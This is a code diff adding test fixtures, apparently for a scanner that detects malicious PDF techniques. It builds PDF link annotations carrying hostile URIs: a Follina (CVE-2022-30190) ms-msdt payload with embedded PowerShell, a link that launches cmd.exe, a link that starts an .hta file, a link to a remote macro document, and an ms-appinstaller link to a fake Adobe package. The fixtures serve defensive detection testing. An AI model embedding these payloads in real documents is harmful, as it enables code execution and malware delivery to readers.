@@ -232,6 +232,27 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     // a link whose URI is a program on the reader's machine, or a command line (PayloadsAllThePDFs' payload3 and payload4)
     "uri-file-url": () => built({ annots: [linkAnnot("<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>")] }),
     "uri-command-line": () => built({ annots: [linkAnnot("<< /S /URI /URI (START C:/Users/Public/invoice.hta) >>")] }),
+    // Follina (CVE-2022-30190): the diagnostic tool runs the PowerShell its arguments carry
+    "uri-ms-msdt": () =>
+      built({
+        annots: [
+          linkAnnot(
+            `<< /S /URI /URI ${hexString("ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_BrowseForFile=$(Invoke-Expression($(Invoke-Expression('[System.Text.Encoding]'))))i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\"")} >>`,
+          ),
+        ],
+      }),
+    "uri-office-remote-document": () =>
+      built({
+        annots: [linkAnnot(`<< /S /URI /URI ${hexString("ms-word:ofe|u|https://docs.example/Invoice_0423.docm")} >>`)],
+      }),
+    "uri-ms-appinstaller": () =>
+      built({
+        annots: [
+          linkAnnot(
+            `<< /S /URI /URI ${hexString("ms-appinstaller:?source=https://updates.example/Adobe_PDF.appinstaller")} >>`,
+          ),
+        ],
+      }),
   },
   "script-on-open": {
     "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
